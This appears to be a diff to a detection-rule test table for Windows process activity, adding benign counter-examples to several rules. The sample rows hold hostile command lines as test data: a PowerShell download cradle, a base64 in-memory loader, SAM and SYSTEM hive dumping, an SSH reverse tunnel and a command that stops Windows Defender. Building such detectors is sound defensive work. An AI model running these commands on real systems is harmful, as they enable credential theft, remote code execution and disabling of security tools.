@@ -8,7 +8,7 @@ const POWERSHELL = r`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`;
 // One rule a line reads better than what the formatter makes of it.
 // prettier-ignore
 export const PROCESS_CHAINS: readonly RuleRow[] = [
-  row('process/library-run-from-odd-place-by-rundll32', [proc('rundll32', r`rundll32.exe \\203.0.113.5\s\a.dll,Go`), proc('rundll32', r`rundll32 C:\Users\Public\a.dll,Go`), proc('rundll32', 'rundll32 a.dat,Go')], { CommandLine: 'rundll32.exe shell32.dll,Control_RunDLL' }),
+  row('process/library-run-from-odd-place-by-rundll32', [proc('rundll32', r`rundll32.exe \\203.0.113.5\s\a.dll,Go`), proc('rundll32', r`rundll32 C:\Users\Public\a.dll,Go`), proc('rundll32', 'rundll32 a.dat,Go')], { CommandLine: 'rundll32.exe shell32.dll,Control_RunDLL' }, { CommandLine: r`rundll32.exe "C:\Windows\Installer\MSI1.tmp",zzzzInvokeManagedCustomActionOutOfProc` }),
   row('process/library-registered-from-user-folder', proc('regsvr32', r`regsvr32 /s C:\Users\ann\AppData\Local\a.dll`), { CommandLine: r`regsvr32 /s C:\Windows\System32\a.dll` }),
   row('process/foreign-code-through-helper-program', [proc(r`C:\Windows\Microsoft.NET\Framework\v4\regasm.exe`, r`regasm C:\Users\Public\a.dll`), proc('mavinject', 'mavinject 4000 /INJECTRUNNING a.dll'), proc('pcalua', 'pcalua -a a.exe')], { CommandLine: r`regasm C:\Program Files\v\a.dll` }),
   row('process/control-panel-item-from-user-folder', proc('control', r`control C:\Users\ann\Downloads\a.cpl`), { CommandLine: r`control C:\Windows\System32\timedate.cpl` }),
@@ -21,7 +21,7 @@ export const PROCESS_CHAINS: readonly RuleRow[] = [
   row('process/system-shell-from-user-program', [child(r`C:\Users\ann\potato.exe`, 'cmd', 'cmd', { IntegrityLevel: 'System' }), security(4688, { NewProcessName: r`C:\Windows\System32\whoami.exe`, ParentProcessName: r`C:\Temp\p.exe`, MandatoryLabel: 'S-1-16-16384', CommandLine: 'whoami' })], { IntegrityLevel: 'High' }, { ParentImage: r`C:\Program Files\v\agent.exe` }),
   row('process/elevated-shell-from-task-manager', child('Taskmgr', 'cmd', 'cmd', { IntegrityLevel: 'High' }), { IntegrityLevel: 'Medium' }),
   row('process/management-console-started-by-dcom', child('svchost', 'mmc', 'mmc.exe -Embedding'), { CommandLine: 'mmc.exe eventvwr.msc' }),
-  row('process/shell-started-by-dcom-object', child(r`C:\Program Files\Microsoft Office\EXCEL.EXE`, 'cmd', 'cmd', { ParentCommandLine: 'EXCEL.EXE /automation -Embedding' }), { ParentCommandLine: 'EXCEL.EXE a.xlsx' }),
+  row('process/shell-started-by-dcom-object', child(r`C:\Program Files\Microsoft Office\EXCEL.EXE`, 'cmd', 'cmd', { ParentCommandLine: 'EXCEL.EXE /automation -Embedding' }), { ParentCommandLine: 'EXCEL.EXE a.xlsx' }, { ParentImage: r`C:\Windows\System32\msiexec.exe` }),
   row('process/in-memory-loader-on-powershell-command-line', proc(POWERSHELL, "powershell -c \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ==')))\""), { CommandLine: 'powershell -c "IEX(gc a.ps1)"' }),
   row('process/download-cradle-on-command-line', proc(POWERSHELL, "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')"), { CommandLine: "powershell (New-Object Net.WebClient).DownloadFile('http://x/a','a.zip')" }),
   row('process/own-rights-surveyed-with-whoami', [proc('whoami', 'whoami /priv'), proc('whoami', 'whoami', { IntegrityLevel: 'System' })], { CommandLine: 'whoami' }),
@@ -52,7 +52,7 @@ export const PROCESS_CHAINS: readonly RuleRow[] = [
   row('process/shell-started-by-wmi', child(r`C:\Windows\System32\wbem\WmiPrvSE.exe`, 'cmd', 'cmd /c a'), { Image: r`C:\Windows\System32\wermgr.exe` }),
   row('process/ssh-tunnel-to-remote-desktop', proc(r`C:\x\plink.exe`, 'plink -ssh u@203.0.113.5 -R 12345:127.0.0.1:3389'), { CommandLine: 'plink -ssh u@203.0.113.5' }),
   row('process/accessibility-program-replaced', child('winlogon', 'cmd', 'cmd.exe sethc.exe 211'), { ParentImage: r`C:\Windows\explorer.exe` }),
-  row('process/directory-database-dump-by-command', [proc('reg', r`reg save HKLM\SAM a.hiv`), proc('print', r`print /D:C:\x\s.txt \\localhost\C$\@GMT-2026.02.09-14.25.37\windows\system32\config\SYSTEM`)], { CommandLine: r`reg query HKLM\SAM` }),
+  row('process/directory-database-dump-by-command', [proc('reg', r`reg save HKLM\SAM a.hiv`), proc('print', r`print /D:C:\x\s.txt \\localhost\C$\@GMT-2026.02.09-14.25.37\windows\system32\config\SYSTEM`)], { CommandLine: r`reg query HKLM\SAM` }, { CommandLine: r`reg export HKLM\SYSTEM\CurrentControlSet\Services\Spooler b.reg` }),
   row('process/elevation-prompt-bypassed', child('fodhelper', 'cmd', 'cmd'), { Image: r`C:\Windows\explorer.exe` }),
   row('process/program-started-over-winrm', child('wsmprovhost', 'whoami'), { ParentImage: r`C:\Windows\System32\svchost.exe` }),
   row('process/security-sensor-stopped-by-command', proc('sc', 'sc stop WinDefend'), { CommandLine: 'sc query WinDefend' }),
